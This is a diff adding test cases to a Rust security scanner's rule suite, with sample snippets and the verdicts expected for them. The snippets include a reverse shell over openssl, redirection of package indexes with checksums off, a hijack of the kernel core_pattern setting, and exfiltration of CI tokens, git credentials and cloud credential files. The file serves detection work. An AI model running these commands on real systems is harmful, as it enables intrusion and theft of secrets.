@@ -2625,6 +2625,104 @@ fn precompiled_rules_match_as_their_regexes_do() {
     "js-send-environment",
     2
 )]
+#[case::sh_go_proxy_and_checksums_off(
+    crate::Lang::Bash,
+    "go env -w GOPROXY=http://198.51.100.36:3000,direct GOSUMDB=off\n",
+    Verdict::Major,
+    "changes-package-source",
+    1
+)]
+#[case::ts_pip_from_another_index(
+    crate::Lang::TypeScript,
+    "import { execFileSync } from \"node:child_process\";\nexecFileSync(\"python3\", [\"-m\", \"pip\", \"install\", \"--index-url\", \"http://198.51.100.27/simple\", \"--trusted-host\", \"198.51.100.27\", \"fonttools\"]);\n",
+    Verdict::Major,
+    "changes-package-source",
+    2
+)]
+#[case::py_git_credential_fill(
+    crate::Lang::Python,
+    "import subprocess\nout = subprocess.run([\"git\", \"credential\", \"fill\"], input=\"host=github.com\\n\\n\", capture_output=True, text=True)\n",
+    Verdict::Major,
+    "reads-stored-credentials",
+    2
+)]
+#[case::sh_container_data_pruned(
+    crate::Lang::Bash,
+    "docker system prune -af --volumes\n",
+    Verdict::Major,
+    "deletes-container-data",
+    1
+)]
+#[case::js_editor_extension_installed(
+    crate::Lang::JavaScript,
+    "const { execFileSync } = require(\"child_process\");\nexecFileSync(\"code\", [\"--install-extension\", \"bridge.vsix\"]);\n",
+    Verdict::Major,
+    "installs-editor-extension",
+    2
+)]
+#[case::py_reverse_shell_held(
+    crate::Lang::Python,
+    "CMD = \"p=$(mktemp -u); mkfifo $p; /bin/sh -i <$p 2>&1 | openssl s_client -quiet -connect 203.0.113.71:443 >$p\"\n",
+    Verdict::Major,
+    "holds-reverse-shell",
+    1
+)]
+#[case::sh_kernel_setting_written(
+    crate::Lang::Bash,
+    "echo \"|/tmp/h %p\" > /proc/sys/kernel/core_pattern\n",
+    Verdict::Major,
+    "sh-write-kernel-setting",
+    1
+)]
+#[case::sh_eval_of_a_lowered_command(
+    crate::Lang::Bash,
+    "NET='TELNET 203.0.113.35 23'\neval \"${NET,,}\"\n",
+    Verdict::Rejected,
+    "sh-eval-transformed",
+    2
+)]
+#[case::js_named_write_of_a_workflow(
+    crate::Lang::JavaScript,
+    "const { writeFileSync } = require(\"node:fs\");\nwriteFileSync(\".github/workflows/sync.yml\", SYNC);\n",
+    Verdict::Major,
+    "changes-ci-pipeline",
+    2
+)]
+#[case::sh_gitlab_job_appended(
+    crate::Lang::Bash,
+    "printf '%s' \"$JOB\" >> .gitlab-ci.yml\n",
+    Verdict::Major,
+    "changes-ci-pipeline",
+    1
+)]
+#[case::ts_oidc_token_sent(
+    crate::Lang::TypeScript,
+    "await fetch(TEMPLATE, { headers: { \"x-oidc\": process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN ?? \"\" } });\n",
+    Verdict::Major,
+    "sends-ci-token",
+    1
+)]
+#[case::js_env_files_of_other_projects(
+    crate::Lang::JavaScript,
+    "import { homedir } from \"node:os\";\nconst roots = [\"..\", homedir()];\nconst names = [\".env\", \".env.local\"];\nawait fetch(PROXY, { method: \"POST\", body: JSON.stringify({ roots, names }) });\n",
+    Verdict::Major,
+    "reads-env-files-outside",
+    3
+)]
+#[case::sh_cloud_tokens_read(
+    crate::Lang::Bash,
+    "tar czf - ~/.config/rclone/rclone.conf ~/.s3cfg ~/.vault-token > out.tgz\n",
+    Verdict::Major,
+    "names-credential-file",
+    1
+)]
+#[case::js_arguments_of_a_wrapped_program(
+    crate::Lang::JavaScript,
+    "const { execFileSync } = require(\"node:child_process\");\nfunction aws(args) {\n  return execFileSync(\"aws\", args, { encoding: \"utf8\" });\n}\naws([\"s3\", \"sync\", \"dist/\", target]);\naws([\"s3\", \"rm\", `s3://${name}`, \"--recursive\"]);\n",
+    Verdict::Major,
+    "deletes-cloud-storage",
+    6
+)]
 #[case::sh_builtin_loaded_from_a_shared_object(
     crate::Lang::Bash,
     "so=\"$PWD/json.so\"\nenable -af \"$so\" json\n",
@@ -2821,6 +2919,14 @@ fn blind_set_families_are_refused(
 #[case::py_git_init_prepared(
     crate::Lang::Python,
     "import subprocess, functools\ngit = functools.partial(subprocess.run, check=True)\ngit([\"git\", \"init\"])\nsteps = [(\"init\",), (\"status\",)]\n"
+)]
+#[case::sh_own_volumes_removed(
+    crate::Lang::Bash,
+    "mapfile -t left < <(docker volume ls -q --filter \"label=project=$P\")\ndocker volume rm \"${left[@]}\"\ndocker compose down\n"
+)]
+#[case::py_pip_from_pypi(
+    crate::Lang::Python,
+    "import subprocess\nsubprocess.run([\"pip\", \"install\", \"--index-url\", \"https://pypi.org/simple\", \"-r\", \"requirements.txt\"], check=True)\n"
 )]
 #[case::sh_globs_of_project_files(
     crate::Lang::Bash,
